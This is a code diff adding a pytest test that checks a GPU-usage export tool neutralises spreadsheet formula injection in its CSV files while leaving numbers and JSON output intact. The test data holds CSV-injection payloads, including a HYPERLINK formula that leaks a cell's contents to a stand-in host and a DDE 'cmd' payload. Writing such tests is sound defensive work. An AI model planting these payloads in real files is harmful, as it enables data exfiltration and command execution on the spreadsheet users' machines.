@@ -543,3 +543,48 @@ def test_cli_export_writes_the_period_folder(db_path: Path, tmp_path: Path,
         "2026-11-24", "2026-11-25", "2026-11-26"}
     with pytest.raises(SystemExit, match="month like 2026-10"):
         main(["--config", str(policy), "export", "--month", "Nov"])
+
+
+def test_formula_cells_are_defused_in_csv_and_numbers_are_not(tmp_path: Path) -> None:
+    """Account names (free text without slurmdbd) and record fields reach finance's
+    spreadsheets: a text cell a spreadsheet would run as a formula gets a leading "'" in every
+    CSV file; numbers (a negative net) and the JSON Lines stay as they are."""
+    db_path = tmp_path / "sg.db"
+    store = open_store(db_path)
+    evil = {"account": '=HYPERLINK("http://x.example/?"&A1,"click")', "gpu_type": "@SUM(1)",
+            "user": "-2+3", "project": "+cmd|' /C calc'!A0", "nodes": "\tnode1",
+            "team": "=1+1", "cost_center": "\rCC"}
+    add_run(store, 30, "2026-11-25 01:00", "2026-11-25 02:00", 1.0, credit=3.0, **evil)
+    add_run(store, 31, "2026-11-25 23:00", "2026-11-26 01:00", 2.0, **evil)  # split: slow
+    add_run(store, 32, "2026-11-25 03:00", "2026-11-25 04:00", 1.0, account="plain-acct",
+            user="a=b", gpu_type="a100")
+    store.close()
+    res = export(db_path, day_period(DAY), tmp_path / "out")
+    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
+    for job in ("30", "31"):
+        r = rows[job]
+        for name, value in evil.items():
+            assert r[name] == "'" + value, (job, name)
+    assert rows["30"]["net"] == "-2.00" and rows["30"]["credit"] == "3.00"
+    assert (rows["32"]["account"], rows["32"]["user"]) == ("plain-acct", "a=b")
+    lines = {o["job_id"]: o for o in read_jsonl(res.path / "runs.jsonl")}
+    assert lines[30]["account"] == evil["account"] and lines[30]["net"] == "-2.00"
+    teams = {r["team"]: r for r in read_csv(res.path / "by_team.csv")}
+    assert "'=1+1" in teams and teams["'=1+1"]["net"].startswith("-")
+    raw = (res.path / "by_gpu_type.csv").read_text()
+    assert ",'@SUM(1)," in raw and ",@SUM" not in raw
+    assert ex.verify_export(res.path) == []
+    # the fast and the slow path print the same bytes for these rows too
+    import sqlite3
+
+    period = day_period(DAY)
+    conn = sqlite3.connect(db_path)
+    got = conn.execute(ex._SELECT + "WHERE " + ex._SCOPE + ex._ORDER,
+                       {"a": period.start_ts, "b": period.end_ts}).fetchall()
+    conn.close()
+    clean = [r for r in got if r[1] in (31, 32)]  # 30 is over-credited: slow path only
+    fast_csv, fast_json = RowFormatter(period).format(clean)
+    slow = RowFormatter(period)
+    assert fast_csv == "".join(slow._one_slow(r)[0] for r in clean)
+    assert fast_json == "".join(slow._one_slow(r)[1] for r in clean)
+    assert "'@SUM(1)" in fast_csv
